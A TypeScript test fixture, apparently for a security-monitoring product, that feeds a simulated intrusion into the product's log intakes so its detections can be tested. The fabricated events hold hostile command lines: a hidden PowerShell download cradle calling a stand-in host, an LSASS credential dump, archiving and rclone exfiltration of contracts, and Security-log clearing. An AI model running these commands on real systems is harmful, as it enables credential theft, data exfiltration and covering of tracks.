/**
 * An intrusion that no rule, story or label of the product was written with: a guessed SSH password, remote desktop from there to a file
 * server, a password dump, and contracts packed and sent out. Sent through two documented intakes: rsyslog and the bulk API.
 */
import { setTimeout as pause } from 'node:timers/promises';
import { minuteMs } from '@parapet/contract/rules/duration.ts';
import { networkConnect, newProcess, processCreate, system32 } from '@parapet/world/events/sysmon.ts';
import { logon } from '@parapet/world/events/windows.ts';
import { encoded } from '@parapet/world/everyday/programs.ts';
import { currentBeats, type Device } from '@parapet/world/fleet.ts';
import type { Person } from '@parapet/world/people.ts';
import { randomFor } from '@parapet/world/random.ts';
import { createStoryBuilder } from '@parapet/world/stories/story.ts';
import { eventsWith } from './api.ts';
import { ingestKey, type Portal } from './portal.ts';
import { startRsyslog, syslogTime } from './rsyslog.ts';

const guesser = '198.51.100.23';
export const stager = 'http://198.51.100.77/stage.ps1';
export const cradle = `IEX (New-Object Net.WebClient).DownloadString('${stager}')`;
export const gate = 'larch-gate';
export const fileServer = 'LARCH-FS1';
const gateAddress = '10.77.0.9';

const site = {
  organisationId: 0,
  prefix: 'LARCH',
  windowsDomain: 'LARCH',
  domain: 'larch.example',
  network: 77,
  utcOffsetHours: 0,
  publicAddress: '192.0.2.77',
  share: 0,
  isOpenAtWeekends: false,
};
const mara: Person = {
  organisationId: 0,
  firstName: 'Mara',
  lastName: 'Pelt',
  account: 'mpelt',
  windowsName: 'LARCH\\mpelt',
  email: 'mpelt@larch.example',
  department: 'Logistics',
  sid: 'S-1-5-21-3017-4021-5023-1107',
  startsAt: 8,
  endsAt: 17,
  isAdministrator: true,
};
const server: Device = {
  organisationId: 0,
  site,
  name: fileServer,
  type: 'server',
  role: 'fileServer',
  system: 'windows',
  operatingSystem: 'Windows Server 2022 Standard',
  kernel: '10.0.20348.2762',
  ip: '10.77.0.20',
  mac: '02:4d:00:77:00:20',
  id: '5d0c2a7e-0000-4000-8000-000000770020',
  agentId: '5d0c2a7e-0000-4000-8000-000000770021',
  shippers: ['winlogbeat'],
  agentVersion: currentBeats,
  isOutdated: false,
  owner: mara,
  silentForDays: undefined,
};

/** Sends the whole intrusion, which began 50 minutes ago. */
export async function intrude(portal: Pick<Portal, 'url' | 'dataDir'>, token: string, client: number): Promise<void> {
  const key = await ingestKey(portal, client);
  const start = Date.now() - 50 * minuteMs;
  const rsyslog = await startRsyslog({ portalUrl: portal.url, key });
  try {
    const lines = guessing(start);
    await rsyslog.log(lines);
    // rsyslog drops what it still holds when it stops.
    while ((await eventsWith(portal.url, token, client, 'mpelt')).length < lines.length) await pause(200);
  } finally {
    await rsyslog.stop();
  }
  const lines = onServer(start).flatMap(({ index, document: { _id, _index, ...source } }) => [
    JSON.stringify({ create: { _index: _index ?? index, _id } }),
    JSON.stringify(source),
  ]);
  const answer = await fetch(`${portal.url}/ingest/_bulk`, {
    method: 'POST',
    headers: { authorization: `ApiKey ${key}`, 'content-type': 'application/x-ndjson' },
    body: `${lines.join('\n')}\n`,
  });
  const { errors } = (await answer.json()) as { errors: boolean };
  if (errors) throw new Error('The intake refused events of the intrusion.');
}

/** Lines of sshd in RFC 3164: 14 wrong passwords, then the right one. */
function guessing(start: number): string[] {
  const line = (second: number, text: string) => `<38>${syslogTime(new Date(start + second * 1000))} ${gate} sshd[4411]: ${text}`;
  const wrong = Array.from({ length: 14 }, (_, i) =>
    line(i * 4, `Failed password for mpelt from ${guesser} port ${41_000 + i} ssh2`),
  );
  return [...wrong, line(62, `Accepted password for mpelt from ${guesser} port 41099 ssh2`)];
}

function onServer(start: number) {
  const random = randomFor('intrusion', start);
  const builder = createStoryBuilder({ site, start, random });
  const add = builder.on(server, mara);
  const shell = newProcess(random, `${system32}cmd.exe`, '"C:\\Windows\\System32\\cmd.exe"');
  const powershell = newProcess(
    random,
    `${system32}WindowsPowerShell\\v1.0\\powershell.exe`,
    `powershell.exe -NoP -W Hidden -enc ${encoded(cradle)}`,
  );
  const run = (minutes: number, image: string, commandLine: string) =>
    add(minutes, (scene) => processCreate(scene, { image, commandLine, parent: powershell, integrity: 'High' }));
  add(8, (scene) => logon(scene, { type: 10, from: gateAddress, authentication: 'Negotiate' }));
  add(9, (scene) => processCreate(scene, { ...shell, self: shell }));
  add(9.2, (scene) => processCreate(scene, { ...powershell, self: powershell, parent: shell }));
  add(9.3, (scene) => networkConnect(scene, { process: powershell, to: '198.51.100.77', port: 80 }));
  run(12, `${system32}whoami.exe`, 'whoami /all');
  run(12.3, `${system32}net.exe`, 'net group "Domain Admins" /domain');
  run(12.6, `${system32}nltest.exe`, 'nltest /domain_trusts');
  run(18, `${system32}rundll32.exe`, 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\ProgramData\\m.bin full');
  run(31, 'C:\\Program Files\\7-Zip\\7z.exe', '7z.exe a -hpWinter C:\\ProgramData\\c.7z D:\\Contracts');
  run(35, 'C:\\ProgramData\\rclone.exe', 'rclone.exe copy C:\\ProgramData\\c.7z mega:c --transfers 8');
  run(41, `${system32}wevtutil.exe`, 'wevtutil.exe cl Security');
  return builder.events;
}
